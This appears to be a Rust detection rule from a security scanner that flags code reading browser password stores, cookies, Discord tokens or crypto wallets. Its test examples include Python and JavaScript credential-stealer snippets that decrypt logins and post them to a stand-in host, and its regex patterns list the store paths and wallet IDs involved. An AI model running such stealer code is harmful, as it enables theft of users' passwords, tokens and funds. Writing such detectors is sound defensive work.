//! source-browser-store-read: the stores of browsers and wallets are read, and something is sent.

use std::sync::LazyLock;

use regex::Regex;

use super::source_calls::{source_files, weighed};
use crate::{FactSink, Rule, RuleMeta};
use capdex_evidence::code::sinks::carried_out;
use capdex_evidence::document::Document;
use capdex_evidence::subject::Subject;
use capdex_model::fact::{Confidence, Severity};

/// See the file's first line.
pub(super) struct SourceBrowserStoreRead;

static META: LazyLock<RuleMeta> = LazyLock::new(|| toml::from_str(CARD).expect("the card is valid"));

const CARD: &str = r##"
id = "source-browser-store-read"
version = 1
title = "Stored passwords, cookies or wallets are gone through"
why = "A program that knows where browsers, chat clients and wallets keep their secrets, and how those are encrypted, is made to take them."
fix = "Ask the user for the one value that is needed."
cannot_see = "Stores that it does not know; names that are put together at run time."
severity = "high"
confidence = "high"
kinds = ["skill", "mcp_server", "hook", "plugin", "package"]
lifecycle = "stable"
cites = ["SAFE-T1502", "CWE-522", "CWE-506", "owasp-mcp:MCP01"]
[[examples.fires]]
note = "Passwords of several browsers, decrypted and posted."
[examples.fires.files]
"a.py" = '''
import os, sqlite3, win32crypt, requests
for browser in [r"Google\Chrome\User Data", r"BraveSoftware\Brave-Browser\User Data"]:
    db = sqlite3.connect(os.path.join(os.environ["LOCALAPPDATA"], browser, "Default", "Login Data"))
    key = win32crypt.CryptUnprotectData(open("Local State").read())
    requests.post("https://collector.test", json={"rows": db.execute("SELECT * FROM logins").fetchall()})
'''
[[examples.fires]]
note = "Tokens and wallets."
[examples.fires.files]
"a.js" = '''
const fs = require("fs");
const places = ["/discordcanary/Local Storage/leveldb", "/Google/Chrome/User Data/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn"];
for (const place of places) fetch("https://collector.test", { method: "POST", body: fs.readFileSync(process.env.APPDATA + place) });'''
[[examples.silent]]
note = "A browser is started with its own folder."
[examples.silent.files]
"a.js" = '''
const { spawn } = require("child_process");
spawn("/opt/Google/Chrome/chrome", ["--user-data-dir=/tmp/a"]);
fetch("https://api.test");'''
[[examples.silent]]
note = "A page about storage."
[examples.silent.files]
"a.js" = 'fetch("https://api.test").then((r) => localStorage.setItem("Login Data", r));'
"##;

impl Rule for SourceBrowserStoreRead {
    fn meta(&self) -> &RuleMeta {
        &META
    }

    fn check(&self, subject: &Subject<'_>, facts: &mut FactSink<'_>) {
        for file in source_files(subject) {
            let Some(document) = subject.evidence.documents.get(file.path) else { continue };
            let Some(at) = goes_through_stores(document) else { continue };
            let sends = file.view.calls.iter().any(|call| carried_out(call).is_some());
            let plain = if sends { Severity::High } else { Severity::Medium };
            let (severity, confidence) = weighed(&file, plain, Confidence::High);
            let (start, end) = document.line_at(at);
            let evidence = document.text.get(start.max(at.saturating_sub(80))..end).or(document.text.get(at..end));
            facts.found_as(severity, confidence, document.place(at), evidence.unwrap_or_default());
        }
    }
}

fn pattern(text: &str) -> Regex {
    Regex::new(text).expect("the pattern is fixed and valid")
}

/// Where profiles of browsers and chat clients lie.
static PROFILES: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?i-u)google[/\\]+chrome|bravesoftware|microsoft[/\\]+edge|opera software|yandexbrowser|mozilla[/\\]+firefox|vivaldi[/\\]+user|discord(?:canary|ptb)|user data[/\\]+default",
    )
});

/// The stores in them.
static STORES: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"(?i-u)["'/\\](?:login data|cookies\.sqlite|logins\.json|key4\.db)["'/\\]|local storage[/\\]+leveldb|local extension settings"#,
    )
});

/// What opens them, or what else such programs take along.
static SPOILS: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?i-u)cryptunprotectdata|os_crypt|encrypted_key|nkbihfbeogaeaoehlefnkodbefgpgknn|bfnaelmomeimhlpmgjnjophhpkkoljpa|exodus\.wallet|\bexodus\b|\belectrum\b|discord(?:canary|ptb)|roblosecurity|\\?\[\\w-\]\{24",
    )
});

/// Where a file goes through stores: all three kinds of words stand in it.
fn goes_through_stores(document: &Document) -> Option<usize> {
    let text = document.text.as_str();
    let store = STORES.find(text)?;
    (PROFILES.is_match(text) && SPOILS.is_match(text)).then_some(store.start())
}
